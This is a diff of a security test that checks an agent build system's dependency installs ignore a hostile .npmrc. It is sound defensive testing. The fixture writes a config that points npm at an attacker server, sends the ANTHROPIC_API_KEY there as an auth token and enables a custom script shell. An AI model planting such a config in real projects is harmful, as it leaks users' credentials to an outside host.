@@ -3,12 +3,12 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
 import { createHash, randomBytes } from 'node:crypto';
-import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { execa } from 'execa';
 import { buildAgent } from '../bench/agent-build.ts';
-import { installDependencies } from '../evolve/workdir.ts';
+import { installDependencies } from '../bench/agent-deps.ts';
 import { tempDir } from './helpers.ts';
 
 const CANARY = `sk-ant-canary-${randomBytes(12).toString('hex')}`;
@@ -108,17 +108,19 @@ describe('dependency installs never run a variant\'s choices on the host', () =>
       });
       const host = attacker.url.replace(/^http:/, '');
       writeFileSync(join(agent, '.npmrc'), `registry=${attacker.url}\n${host}:_authToken=\${ANTHROPIC_API_KEY}\nignore-scripts=false\nscript-shell=${join(root, 'sh')}\n`);
-      await buildAgent(agent, { cacheDir: join(root, "builds") }).catch(() => undefined);
+      await buildAgent(agent, { cacheDir: join(root, 'builds'), depsDir: join(root, 'deps') }).catch(() => undefined);
 
       expect(attacker.seen.map((s) => s.url), 'npm fetched from the registry the variant\'s .npmrc named').toEqual([]);
       expect(JSON.stringify(trusted.seen)).not.toContain(CANARY);
       expect(existsSync(marker)).toBe(false);
       expect(await leaks(root)).toBe('');
-      // The install itself worked, through the registry Clade was told to use.
-      expect(existsSync(join(agent, 'node_modules', 'clade-tiny', 'package.json'))).toBe(true);
+      // The install itself worked, through the registry Clade was told to use, into the dependency cache.
+      const [cached] = readdirSync(join(root, 'deps')).filter((n) => !n.endsWith('.lock'));
+      const installed = join(root, 'deps', cached!, 'node_modules', 'clade-tiny', 'package.json');
+      expect(existsSync(installed)).toBe(true);
       // npm ran as nobody (its cache is nobody's), and what it installed was handed back to Clade's user.
       if (process.getuid?.() === 0) expect(statSync(join(tmpdir(), 'clade-npm-cache')).uid).toBe(65534);
-      expect(statSync(join(agent, 'node_modules', 'clade-tiny', 'package.json')).uid).toBe(process.getuid?.());
+      expect(statSync(installed).uid).toBe(process.getuid?.());
     } finally {
       delete process.env.CLADE_NPM_REGISTRY;
       trusted.server.close();
